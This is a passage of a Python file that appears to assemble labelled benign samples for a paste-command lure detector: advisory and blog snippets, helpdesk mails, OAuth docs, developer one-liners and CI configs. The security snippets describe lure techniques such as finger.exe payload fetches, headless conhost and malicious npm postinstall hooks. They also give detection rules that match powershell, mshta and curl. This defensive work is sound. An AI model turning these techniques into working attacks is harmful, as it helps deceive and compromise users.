        "Some lures use finger.exe to fetch the payload over TCP 79 and pipe it into cmd. Few enterprises need finger at all; an AppLocker rule or firewall rule is a cheap mitigation.",
    ),
    (
        BLOG + "2027/webdav-lnk",
        "Instead of a download, the lure points Explorer at a WebDAV share (\\\\host@SSL\\DavWWWRoot) holding an .lnk that starts PowerShell. Disabling the WebClient service removes this path.",
    ),
    (
        BLOG + "2027/conhost-headless",
        "Attackers started prefixing commands with conhost.exe --headless so that no console window appears. The process tree shows explorer.exe > conhost.exe > powershell.exe.",
    ),
    (
        BLOG + "2027/kongtuke-tds",
        "KongTuke injects a script into compromised WordPress sites; visitors from targeted regions get the fake verification page, everyone else sees the normal site.",
    ),
    (
        BLOG + "2027/lumma-after-takedown",
        "After the takedown, Lumma affiliates moved to new panels within weeks. Delivery is still mostly fake CAPTCHA pages and cracked-software sites.",
    ),
    (
        BLOG + "2027/amos-homebrew-ads",
        "Malvertising for 'Homebrew' led to a lookalike site whose install line fetched a stealer instead of the real install.sh. Always compare the domain with brew.sh before pasting.",
    ),
    (
        BLOG + "2027/teams-vishing",
        "The attacker floods the mailbox with spam, then calls over Teams as 'IT support' and asks the user to start Quick Assist. Verify helpdesk calls through a known channel.",
    ),
    (
        BLOG + "2027/job-interview-lures",
        "Fake recruiters send a coding test repository; its package.json has a postinstall script that loads a remote payload. Review lifecycle scripts before running npm install on unknown code.",
    ),
    (
        BLOG + "2027/discord-console",
        "Scam servers tell members to paste 'verification code' into DevTools. Anything that reads localStorage token and sends it elsewhere hands over the account.",
    ),
    (
        BLOG + "2027/drainers",
        "Wallet drainers ask for a permit or setApprovalForAll signature rather than a transfer, so the wallet UI shows no outgoing amount.",
    ),
    (
        BLOG + "2027/hunting-query",
        "Hunting idea: RunMRU entries containing 'powershell', 'mshta' or 'curl' written within a minute of a browser process being in the foreground.",
    ),
    (
        BLOG + "2027/mitigations",
        "Mitigations that worked for us: disable the Run dialog for standard users via GPO, block mshta.exe with WDAC, and alert on powershell.exe whose parent is explorer.exe with a URL in the command line.",
    ),
    (
        "https://www.cert-bund.example/warnungen/2027-14",
        "Warnung: Gefälschte Captcha-Seiten fordern dazu auf, Windows+R zu drücken und einen Befehl einzufügen. Echte Captchas verlangen das nie. Schließen Sie die Seite und informieren Sie Ihre IT.",
    ),
    (
        "https://www.cert-fr.example/alertes/2027-09",
        "Des pages de faux CAPTCHA demandent de coller une commande dans la fenêtre Exécuter. Aucun service légitime ne le demande : fermez l'onglet et signalez-le.",
    ),
    (
        "https://www.incibe.example/avisos/2027-33",
        "Aviso: páginas falsas de verificación piden pulsar Win+R y pegar un comando. Ningún sitio legítimo lo solicita.",
    ),
    (
        "https://www.csirt.example/it/avvisi/2027-21",
        "Attenzione alle pagine che chiedono di premere Win+R e incollare un comando per 'verificare che sei umano': è una truffa.",
    ),
    (
        "https://www.cert.example/pt/alertas/2027-08",
        "Alerta: sites falsos pedem para pressionar Win+R e colar um comando. Nenhum CAPTCHA verdadeiro pede isso.",
    ),
    (
        "https://www.ncsc.example/nl/waarschuwing/2027-11",
        "Let op: nep-captcha's vragen u om Windows+R in te drukken en een opdracht te plakken. Doe dit nooit.",
    ),
    (
        "https://www.cert.example/pl/ostrzezenia/2027-17",
        "Uwaga: fałszywe strony CAPTCHA każą nacisnąć Win+R i wkleić polecenie. Prawdziwe zabezpieczenia nigdy tego nie wymagają.",
    ),
    (
        "https://www.usom.example/duyurular/2027-05",
        "Sahte CAPTCHA sayfaları Win+R tuşlarına basıp bir komut yapıştırmanızı istiyor. Gerçek doğrulamalar bunu asla istemez.",
    ),
    (
        "https://www.cert.example/ru/preduprezhdeniya/2027-12",
        "Поддельные страницы CAPTCHA просят нажать Win+R и вставить команду. Настоящие проверки такого никогда не требуют.",
    ),
    (
        "https://www.jpcert.example/at/2027/0031",
        "偽のCAPTCHAページが Win+R を押してコマンドを貼り付けるよう求める事例が増えています。正規の認証でそのような操作は不要です。",
    ),
    (
        "https://www.cncert.example/gonggao/2027-19",
        "注意：伪造的人机验证页面要求按 Win+R 并粘贴命令。正规网站绝不会这样要求。",
    ),
    (
        "https://www.cert.example/ar/tahdhirat/2027-07",
        "تحذير: صفحات تحقق مزيفة تطلب الضغط على Win+R ولصق أمر. المواقع الحقيقية لا تطلب ذلك أبداً.",
    ),
    (
        "https://www.cert.example/en/advisories/2027-22",
        "Advisory: fake 'Verify you are human' pages instruct users to press Win+R and paste. Legitimate CAPTCHA services never ask this. Report such pages to the SOC.",
    ),
    (
        "https://intel.soc-team.example/weekly/2027-w14",
        "This week: 41 blocked ClickFix attempts, 37 from fake CAPTCHA pages on compromised small-business sites, 4 from fake Teams error pages. No successful executions.",
    ),
    (
        "https://intel.soc-team.example/weekly/2027-w15",
        "Detection tuning: we stopped alerting on 'curl | sh' from developer workstations when the URL matches the project's own domain; alerts on unknown hosts remain.",
    ),
    (
        "https://intel.soc-team.example/weekly/2027-w16",
        "User report: a 'Chrome update' overlay asked to copy a fix into PowerShell. The user did not run it and reported it via the phish button. Well done!",
    ),
    (
        "https://intel.soc-team.example/awareness/paste-rule",
        "Simple rule for everyone: if a web page tells you to press Win+R, open Terminal or DevTools and paste something, stop and call the service desk.",
    ),
    (
        "https://intel.soc-team.example/awareness/callback",
        "Callback phishing: an 'invoice' mail with a phone number and no link. When you call, the 'agent' asks you to install remote support software. Hang up.",
    ),
    (
        "https://intel.soc-team.example/awareness/support-scam",
        "Tech-support scam pages go full screen, play audio and show a phone number. Press Esc or Alt+F4, never call the number.",
    ),
    (
        "https://wiki.detection-eng.example/sigma/clickfix",
        "title: Suspicious Run dialog execution\nlogsource: {product: windows, category: registry_set}\ndetection:\n  selection:\n    TargetObject|contains: '\\RunMRU\\'\n    Details|contains: ['powershell', 'mshta', 'curl']",
    ),
    (
        "https://wiki.detection-eng.example/kql/clickfix",
        'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe", "mshta.exe")\n| where ProcessCommandLine has_any ("http", "iex")',
    ),
    (
        "https://wiki.detection-eng.example/yara/hta",
        'rule Suspicious_HTA_Download { strings: $a = "<hta:application" nocase $b = "WScript.Shell" nocase condition: all of them }',
    ),
    (
        "https://wiki.detection-eng.example/splunk/runmru",
        'index=win sourcetype=WinRegistry registry_path="*\\\\RunMRU\\\\*" | stats count by host, registry_value_data',
    ),
    (
        "https://news.security-weekly.example/2027/03/clickfix-nation-state",
        "Several state-linked groups adopted ClickFix in 2025, proving that social engineering the clipboard works as well against diplomats as against gamers.",
    ),
    (
        "https://news.security-weekly.example/2027/05/steganography-loader",
        "The loader hides its PowerShell stage in the pixel data of a PNG; static scanners see a harmless image.",
    ),
    (
        "https://news.security-weekly.example/2027/06/fake-meet-errors",
        "Fake Google Meet pages claimed the microphone was blocked and offered a 'fix' that had to be pasted into the Run dialog.",
    ),
    (
        "https://news.security-weekly.example/2027/08/ai-share-links",
        "Attackers bought ads pointing to shared AI-chat conversations that 'explain' how to free disk space by pasting a command in Terminal.",
    ),
    (
        "https://news.security-weekly.example/2027/09/github-issues-lure",
        "Spam comments on GitHub issues linked to a 'security fix' page with a fake CAPTCHA; several maintainers reported it within hours.",
    ),
    (
        "https://training.secure-habits.example/module-4",
        "Quiz: A website asks you to press Windows+R and paste a code to prove you are human. What do you do? (a) Paste it (b) Close the page and report it. Correct answer: (b).",
    ),
    (
        "https://training.secure-habits.example/module-5",
        "Remember: Microsoft, your bank and your IT department will never ask you to read out a one-time code or enter a device code you did not request.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine support mails and order confirmations with phone numbers, no alarm ------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://helpdesk.corp.example/ticket/16001",
        "Hi Priya, your new monitor has been delivered to the 3rd floor post room. Questions? Call the service desk on +1 555 016 2200 (Mon–Fri 8–18).",
    ),
    (
        "https://helpdesk.corp.example/ticket/16002",
        "Ticket 16002 closed: the VPN profile was re-issued. If the problem comes back, reply to this mail or call extension 4416.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16003",
        "Reminder: the office network is down for maintenance on Saturday 06:00–10:00. Emergency line during the window: +44 20 5550 1603.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16004",
        "Hallo Frau Weber, Ihr Laptop-Tausch ist für Donnerstag 10 Uhr geplant. Bitte sichern Sie vorher Ihre lokalen Dateien. Rückfragen: 089 555 16 04.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16005",
        "Bonjour M. Laurent, votre badge d'accès est prêt à l'accueil. Pour toute question : 01 55 55 16 05.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16006",
        "Hola Lucía, hemos ampliado tu buzón a 100 GB. Si necesitas algo más, llama al 91 555 16 06.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16007",
        "Ciao Marco, la stampante del 2° piano è di nuovo in funzione. Per guasti chiama il 02 5551 6007.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16008",
        "Olá Ana, a sua conta foi desbloqueada. Em caso de dúvidas ligue para 21 555 1608.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16009",
        "Hoi Joost, je nieuwe telefoon ligt klaar bij de IT-balie. Vragen? Bel 020 555 1609.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16010",
        "Dzień dobry, zgłoszenie 16010 zostało rozwiązane. W razie pytań prosimy o kontakt: 22 555 16 10.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16011",
        "Merhaba Ayşe Hanım, dizüstü bilgisayarınız hazır. Sorularınız için 0212 555 16 11 numarasını arayabilirsiniz.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16012",
        "Здравствуйте, Ирина! Ваш пропуск продлён до конца года. Вопросы — по телефону +7 495 555-16-12.",
    ),
    (
        "https://helpdesk.corp.example/ticket/16013",
        "田中様、新しいノートPCの準備ができました。ご不明な点はヘルプデスク 03-5555-1613 までご連絡ください。",
    ),
    (
        "https://helpdesk.corp.example/ticket/16014",
        "王先生，您的邮箱容量已扩充。如有问题请致电服务台 010-5555-1614。",
    ),
    (
        "https://helpdesk.corp.example/ticket/16015",
        "مرحباً أحمد، تم تجهيز حاسوبك الجديد. للاستفسار اتصل بمكتب الدعم على 5551-1615-04.",
    ),
    (
        "https://shop.bookhouse.example/orders/16-20017",
        "Thank you for your order #16-20017 (3 books, €42.90). Estimated delivery: Friday. Customer service: +49 30 5551 6017, or reply to this email.",
    ),
    (
        "https://shop.bookhouse.example/orders/16-20018",
        "Your parcel has been handed to the courier. Tracking: 1Z16X20018. Questions about delivery? Call 0800 555 1618.",
    ),
    (
        "https://www.pharmacy-corner.example/rx/16019",
        "Your prescription is ready for collection at Corner Pharmacy, 12 High St. Opening hours 8:30–18:00. Phone 01632 555 619.",
    ),
    (
        "https://www.dentist-smile.example/appointments/16020",
        "Reminder: dental check-up on 14 March at 09:40 with Dr. Okafor. To reschedule, call (555) 016-2020 at least 24 hours ahead.",
    ),
    (
        "https://www.garage-autoservice.example/booking/16021",
        "Ihr Fahrzeug ist fertig und kann ab 16 Uhr abgeholt werden. Rechnung anbei. Werkstatt-Telefon: 0711 555 16 21.",
    ),
    (
        "https://www.hotel-seeblick.example/res/16022",
        "Buchungsbestätigung: Doppelzimmer, 3 Nächte ab 02.08. Anreise ab 15 Uhr. Rezeption: +43 512 555 1622.",
    ),
    (
        "https://www.airline-skyway.example/booking/16023",
        "Booking confirmed: AMS → LIS, 12 June, seat 14C. Manage your booking online or call +31 20 555 1623.",
    ),
    (
        "https://www.utility-energy.example/account/16024",
        "Your meter reading for March has been received. Next bill due 15 April. Billing questions: 0345 555 1624 (Mon–Fri).",
    ),
    (
        "https://www.bank-example.example/notices/16025",
        "We will never ask for your PIN, passwords or one-time codes. If in doubt, call the number on the back of your card: 0800 555 1625.",
    ),
    (
        "https://www.insurer-example.example/claims/16026",
        "Claim 16026 received. An adjuster will contact you within 3 working days. Claims line: +1 555 016 2026.",
    ),
    (
        "https://www.school-example.example/notices/16027",
        "Parents' evening is on Thursday 18:00–20:00 in the main hall. Please book a slot or call the office: 01632 555 627.",
    ),
    (
        "https://www.vet-clinic.example/reminders/16028",
        "Bella is due for her annual vaccination. Book online or call us at (555) 016-2028.",
    ),
    (
        "https://www.gym-example.example/membership/16029",
        "Welcome to FitLab! Your membership starts on 1 May. Front desk: +61 2 5550 1629.",
    ),
    (
        "https://www.telco-example.example/orders/16030",
        "Your new SIM card has been dispatched. Activate it in the app or call 555-016-2030 from another phone.",
    ),
    (
        "https://www.library-city.example/loans/16031",
        "Ihre Leihfrist für 2 Medien endet am 20.05. Verlängerung online oder telefonisch unter 0221 555 16 31.",
    ),
    (
        "https://www.mairie-exemple.example/etat-civil/16032",
        "Votre demande d'acte de naissance a été traitée. Renseignements : 04 55 55 16 32.",
    ),
    (
        "https://www.ayuntamiento-ejemplo.example/citas/16033",
        "Cita confirmada para renovar el DNI el 10/06 a las 11:20. Información: 010 o 91 555 16 33.",
    ),
    (
        "https://www.comune-esempio.example/servizi/16034",
        "La sua carta d'identità elettronica è pronta per il ritiro. Ufficio anagrafe: 06 5551 6034.",
    ),
    (
        "https://www.prefeitura-exemplo.example/protocolo/16035",
        "Seu protocolo 16035 foi registrado. Atendimento: 156 ou (11) 5555-1635.",
    ),
    (
        "https://www.gemeente-voorbeeld.example/afspraak/16036",
        "Uw afspraak voor een nieuw paspoort is bevestigd op 3 juni om 14:10. Vragen: 14 020 of 020 555 1636.",
    ),
    (
        "https://www.urzad-przyklad.example/sprawy/16037",
        "Wniosek nr 16037 został przyjęty. Informacja telefoniczna: 22 555 16 37.",
    ),
    (
        "https://www.belediye-ornek.example/basvuru/16038",
        "16038 numaralı başvurunuz alınmıştır. Bilgi için 444 5 516 veya 0212 555 16 38.",
    ),
    (
        "https://www.gosuslugi-primer.example/zayavka/16039",
        "Ваше заявление № 16039 принято. Справочная: 8 800 555-16-39.",
    ),
    (
        "https://www.shiyakusho-rei.example/tetsuzuki/16040",
        "転入届の受付が完了しました。お問い合わせは市民課 03-5555-1640 まで。",
    ),
    (
        "https://www.zhengwu-shili.example/banli/16041",
        "您的业务 16041 已受理，请留意短信通知。咨询电话 010-5555-1641。",
    ),
    (
        "https://www.baladiya-mithal.example/talab/16042",
        "تم استلام طلبكم رقم 16042. للاستفسار يرجى الاتصال على 5551-1642-02.",
    ),
    (
        "https://support.saas-tool.example/hc/articles/16043",
        "Need help? Chat with us in the app, or call support at +1 (555) 016-2043, Monday to Friday 9am–6pm ET. We will never ask for your password.",
    ),
    (
        "https://support.saas-tool.example/hc/articles/16044",
        "Billing: invoices are emailed on the 1st. For payment questions call +1 555 016 2044 or open a ticket.",
    ),
    (
        "https://support.printer-vendor.example/contact",
        "Product support for LaserJet-style printers: 1-555-016-2045. Have your serial number ready.",
    ),
    (
        "https://support.laptop-vendor.example/warranty/16046",
        "Your warranty repair (case 16046) is complete; the device ships today. Questions: +1 555 016 2046.",
    ),
    (
        "https://www.restaurant-olive.example/reservations/16047",
        "Table for 4 booked for Saturday 19:30. Running late? Call us on 0161 555 1647.",
    ),
    (
        "https://www.movers-example.example/quote/16048",
        "Your moving quote: €1,180 for 28 m³, 12 July. Accept online or call 030 5551 6048 to adjust.",
    ),
    (
        "https://www.courier-example.example/delivery/16049",
        "We tried to deliver your parcel today. It is waiting at the depot on Mill Road; collect with ID or call 01632 555 649 to rebook.",
    ),
    (
        "https://www.clinic-example.example/results/16050",
        "Your lab results are available in the patient portal. For questions, call the practice on (555) 016-2050 during opening hours.",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and OIDC documentation: localhost redirects, code=, device flows ------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/reply-url",
        "For desktop apps register http://localhost as the redirect URI; any port is allowed at sign-in time, for example http://localhost:51234/.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/msal/python/getting-started/acquire-token-interactive",
        'app.acquire_token_interactive(scopes=["User.Read"], port=8400)  # opens the browser, redirect to http://localhost:8400',
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow#request-an-access-token",
        "POST /common/oauth2/v2.0/token\nclient_id=...&scope=User.Read&code=OAAABAAAAiL9Kn2Z27UubvWFPbm0gLWQJVzCTE9UkP3pSx1aXxUjq3n8b2JRLk4OxVXr...&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F&grant_type=authorization_code",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "POST https://login.microsoftonline.com/{tenant}/oauth2/v2.0/devicecode\nclient_id=6731de76-14a6-49ae-97bc-6eba6914391e&scope=user.read%20openid%20profile",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli",
        "az login --use-device-code\n# To sign in, use a web browser to open https://microsoft.com/devicelogin and enter the code shown.",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/microsoftgraph/authentication-commands",
        'Connect-MgGraph -Scopes "User.Read.All" -UseDeviceCode',
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app#redirect-uri_loopback",
        "http://127.0.0.1:port or http://[::1]:port — Query your platform for the relevant loopback IP address and start an HTTP listener on a random available port.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/limited-input-device",
        'curl -d "client_id=client_id&scope=email%20profile" https://oauth2.googleapis.com/device/code',
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth login --no-launch-browser\n# Go to the following link in your browser, then paste the verification code.",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/application-default/login",
        "gcloud auth application-default login --scopes=https://www.googleapis.com/auth/cloud-platform",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#loopback-redirect-urls",
        "The optional redirect_uri parameter can also use localhost URLs, e.g. http://127.0.0.1:1234/path. If the app specifies a port, GitHub accepts any port on the loopback address.",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "gh auth login --hostname github.com --git-protocol ssh --web --scopes read:project",
    ),
    (
        "https://docs.gitlab.com/ee/api/oauth2.html",
        "https://gitlab.example.com/oauth/authorize?client_id=APP_ID&redirect_uri=REDIRECT_URI&response_type=code&state=STATE&scope=REQUESTED_SCOPES&code_challenge=CODE_CHALLENGE&code_challenge_method=S256",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "https://{yourDomain}/authorize?response_type=code&code_challenge={codeChallenge}&code_challenge_method=S256&client_id={yourClientId}&redirect_uri=http://localhost:3000/callback&scope=openid%20profile",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/device-authorization-flow",
        "curl --request POST --url 'https://{yourDomain}/oauth/device/code' --header 'content-type: application/x-www-form-urlencoded' --data 'client_id={yourClientId}' --data scope=openid",
    ),
    (
        "https://developer.okta.com/docs/guides/implement-grant-type/authcodepkce/main/",
        "http://localhost:8080/authorization-code/callback?code=P5I7mdxxdv13_JfXrCSq&state=state-296bc9a0-a2a2-4a57-be1a-d0e2fd9bb601",
    ),
    (
        "https://www.keycloak.org/docs/latest/securing_apps/",
        "http://localhost:8080/realms/myrealm/protocol/openid-connect/auth?client_id=myclient&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2F&response_type=code&scope=openid",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252#section-7.3",
        "Example loopback redirect: http://127.0.0.1:51004/oauth2redirect/example-provider",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc7636",
        "code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk\ncode_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc6749#section-4.1.2",
        "The authorization server redirects back with the code:\nHTTP/1.1 302 Found\nLocation: https://client.example.com/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "aws configure sso\nSSO session name (Recommended): my-sso\nSSO start URL [None]: https://my-sso-portal.awsapps.com/start",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/login/",
        "docker login\nYour one-time device confirmation code is: LBQC-XFVJ\nPress ENTER to open your browser or submit your device code here: https://login.docker.com/activate",
    ),
    (
        "https://developer.spotify.com/documentation/web-api/tutorials/code-flow",
        "http://127.0.0.1:8888/callback?code=NApCCg..BkWtQ&state=34fFs29kd09",
    ),
    (
        "https://developer.atlassian.com/cloud/jira/platform/oauth-2-3lo-apps/",
        "https://auth.atlassian.com/authorize?audience=api.atlassian.com&client_id=YOUR_CLIENT_ID&scope=read%3Ajira-work&redirect_uri=https%3A%2F%2Flocalhost%3A8080%2Fcallback&state=YOUR_USER_BOUND_VALUE&response_type=code&prompt=consent",
    ),
    (
        "https://api.slack.com/authentication/oauth-v2",
        "https://slack.com/oauth/v2/authorize?scope=incoming-webhook,commands&client_id=3336676.569200954261&redirect_uri=https://localhost:3000/slack/oauth_redirect",
    ),
    (
        "https://docs.rclone.org/remote_setup/",
        'rclone authorize "drive"\n# If your browser doesn\'t open automatically go to the following link: http://127.0.0.1:53682/auth?state=...',
    ),
    (
        "https://docs.corp.example/dev/local-oidc",
        "For local development the IdP redirects to http://localhost:5173/auth/callback?code=...&state=...; the SPA exchanges the code with PKCE.",
    ),
    (
        "https://docs.corp.example/dev/cli-login",
        "corpctl login opens your browser; after sign-in you are redirected to http://127.0.0.1:8765/callback and the CLI stores the token in the OS keychain.",
    ),
    (
        "https://docs.corp.example/dev/postman-oauth",
        "Postman: Callback URL https://oauth.pstmn.io/v1/callback, Auth URL https://login.corp.example/oauth2/authorize, Grant type Authorization Code (With PKCE).",
    ),
    (
        "https://docs.corp.example/dev/device-login-tv",
        "The kiosk shows a short code; open https://login.corp.example/device on your phone and type it to link the screen to your account.",
    ),
    (
        "https://tailscale.com/kb/1080/cli",
        "tailscale up\n# To authenticate, visit: https://login.tailscale.com/a/1a2b3c4d5e6f",
    ),
    (
        "https://code.visualstudio.com/docs/remote/tunnels",
        "code tunnel\n# To grant access to the server, please log into https://github.com/login/device and use code 3F2A-11BC",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Developer one-liners (project docs, Q&A answers) ------------------------------------------------

DEV = "dev-command"
for page, text in [
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start HEAD v2.3.0 && git bisect run make test-fast && git bisect reset",
    ),
    ("https://git-scm.com/docs/git-worktree", "git worktree add ../hotfix-1.4 release/1.4"),
    (
        "https://git-scm.com/docs/git-commit#Documentation/git-commit.txt---fixupamendrewordltcommitgt",
        "git commit --fixup=a1b2c3d && git rebase -i --autosquash main",
    ),
    (
        "https://git-scm.com/docs/git-log",
        "git log --since='2 weeks ago' --author='Jane' --pretty=format:'%h %ad %s' --date=short",
    ),
    ("https://git-scm.com/docs/git-clean", "git clean -xdn  # dry run first, then -xdf"),
    (
        "https://git-scm.com/docs/git-sparse-checkout",
        "git clone --filter=blob:none --sparse https://github.com/kubernetes/kubernetes && cd kubernetes && git sparse-checkout set staging/src/k8s.io/api",
    ),
    (QA + "50112/undo-last-commit-keep-changes", "git reset --soft HEAD~1 && git status --short"),
    (
        QA + "50240/delete-merged-branches",
        "git branch --merged main | grep -vE '^\\*|main' | xargs -r git branch -d",
    ),
    (
        QA + "50377/find-large-files-in-history",
        "git rev-list --objects --all | git cat-file --batch-check='%(objecttype) %(objectname) %(objectsize) %(rest)' | sort -k3 -n | tail -10",
    ),
    (
        QA + "50419/change-remote-url",
        "git remote set-url origin git@github.com:acme-example/website.git",
    ),
    (
        QA + "50588/python-http-server-port",
        "python3 -m http.server 8765 --bind 127.0.0.1 --directory dist/site",
    ),
    (QA + "50703/pip-install-editable-extras", 'python -m pip install -e ".[dev,docs]"'),
    (QA + "50811/venv-windows-activate", ".\\.venv\\Scripts\\Activate.ps1"),
    (
        QA + "50902/execution-policy-venv",
        "Get-ExecutionPolicy -List\nSet-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
    ),
    (
        QA + "51034/npm-clean-install",
        "rm -rf node_modules package-lock.json && npm cache verify && npm install",
    ),
    (QA + "51187/npx-kill-port", "npx kill-port 3000"),
    (
        QA + "51220/find-process-on-port-windows",
        "netstat -ano | findstr :8080\ntaskkill /PID 14872 /F",
    ),
    (QA + "51305/find-process-on-port-mac", "lsof -nP -iTCP:5173 -sTCP:LISTEN"),
    (QA + "51498/docker-remove-dangling", "docker image prune -f && docker volume prune -f"),
    (QA + "51576/docker-exec-shell", "docker exec -it $(docker ps -qf name=api) sh"),
    (QA + "51633/docker-compose-rebuild", "docker compose up -d --build --force-recreate web"),
    (
        QA + "51780/curl-post-json",
        'curl -sS -X POST http://localhost:8000/api/items -H \'Content-Type: application/json\' -d \'{"name":"test","qty":2}\' | jq .',
    ),
    (
        QA + "51842/curl-timing",
        "curl -o /dev/null -s -w 'dns %{time_namelookup} connect %{time_connect} ttfb %{time_starttransfer} total %{time_total}\\n' https://www.wikipedia.org",
    ),
    (
        QA + "51966/jq-select-field",
        "jq -r '.items[] | select(.status==\"failed\") | .id' report.json",
    ),
    (QA + "52011/sed-in-place-mac", "sed -i '' 's/localhost:5432/db:5432/g' .env"),
    (QA + "52104/find-and-delete-ds-store", "find . -name .DS_Store -type f -delete"),
    (QA + "52287/count-lines-of-code", "git ls-files '*.py' | xargs wc -l | tail -1"),
    (QA + "52311/ssh-tunnel-postgres", "ssh -N -L 5433:localhost:5432 deploy@db01.corp.example"),
    (
        QA + "52430/openssl-generate-self-signed",
        "openssl req -x509 -newkey rsa:4096 -sha256 -days 365 -nodes -keyout key.pem -out cert.pem -subj '/CN=localhost'",
    ),
    (QA + "52519/base64-decode-jwt", 'cut -d. -f2 <<< "$TOKEN" | base64 -d 2>/dev/null | jq .'),
    (
        QA + "52677/ffmpeg-trim-video",
        "ffmpeg -ss 00:01:30 -to 00:02:45 -i talk.mp4 -c copy clip.mp4",
    ),
    (QA + "52790/imagemagick-resize-all", "mogrify -resize 1600x1600\\> -quality 85 *.jpg"),
    (QA + "52833/pandoc-md-to-docx", "pandoc notes.md -o notes.docx --reference-doc=template.docx"),
    (
        QA + "52968/rsync-exclude-node-modules",
        "rsync -av --exclude node_modules --exclude .git ./ backup/project/",
    ),
    (QA + "53005/tar-exclude", "tar --exclude='./node_modules' -czf site-$(date +%F).tgz ."),
    (QA + "53172/go-test-race", "go test -race -count=1 ./..."),
    (QA + "53218/cargo-update-one", "cargo update -p serde --precise 1.0.210"),
    (QA + "53346/mvn-skip-tests", "mvn -q -DskipTests package"),
    (QA + "53471/gradle-refresh", "./gradlew build --refresh-dependencies"),
    (QA + "53590/dotnet-new-webapi", "dotnet new webapi -n Orders.Api --use-controllers"),
    (QA + "53622/pytest-single-test", "pytest tests/test_orders.py::test_refund -x -vv"),
    (QA + "53789/uvicorn-reload", "uvicorn app.main:app --reload --port 8001"),
    (
        QA + "53815/django-migrations",
        "python manage.py makemigrations shop && python manage.py migrate",
    ),
    (QA + "53940/rails-console-sandbox", "bin/rails console --sandbox"),
    (QA + "54002/php-artisan-cache", "php artisan optimize:clear"),
    (QA + "54133/kubectl-logs-previous", "kubectl logs deploy/api -c api --previous --tail=200"),
    (QA + "54251/terraform-fmt-recursive", "terraform fmt -recursive && terraform validate"),
    (QA + "54370/ansible-ping", "ansible all -i inventory/prod.ini -m ping"),
    (QA + "54418/powershell-tail-file", "Get-Content C:\\logs\\app.log -Wait -Tail 50"),
    (
        QA + "54599/powershell-unzip",
        "Expand-Archive -Path .\\release.zip -DestinationPath .\\release -Force",
    ),
    (QA + "54620/powershell-env-path", "$env:Path -split ';' | Sort-Object -Unique"),
    (QA + "54781/winget-list-upgrades", "winget upgrade | Select-String -Pattern 'Microsoft'"),
]:
    ok(DEV, TERM, page, text)

# --- Config, CI, Dockerfiles, Makefiles, crontabs, logs and stack traces ---------------------------------

CONFIG = "config-code"
GH = "https://github.com/acme-example/"
for page, text in [
    (
        GH + "shop/blob/main/.github/workflows/test.yml",
        "jobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync --frozen\n      - run: uv run pytest -q",
    ),
    (
        GH + "shop/blob/main/.github/workflows/release.yml",
        "on:\n  push:\n    tags: ['v*']\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: goreleaser/goreleaser-action@v6\n        with:\n          args: release --clean",
    ),
    (
        GH + "shop/blob/main/.github/workflows/rust.yml",
        "- name: Install Rust\n  run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal\n- run: cargo test --locked",
    ),
    (
        GH + "shop/blob/main/.github/workflows/bun.yml",
        "- uses: oven-sh/setup-bun@v2\n  with:\n    bun-version: latest\n- run: bun install --frozen-lockfile\n- run: bun test",
    ),
    (
        GH + "shop/blob/main/.gitlab-ci.yml",
        "test:\n  image: python:3.12\n  before_script:\n    - pip install -r requirements-dev.txt\n  script:\n    - pytest --junitxml=report.xml\n  artifacts:\n    reports:\n      junit: report.xml",
    ),
    (
        GH + "shop/blob/main/.gitlab-ci-deploy.yml",
        "deploy:\n  stage: deploy\n  image: alpine:3.20\n  before_script:\n    - apk add --no-cache curl bash\n    - curl -fsSL https://get.helm.sh/helm-v3.16.2-linux-amd64.tar.gz | tar xz\n  script:\n    - ./linux-amd64/helm upgrade --install web chart/",
    ),
    (
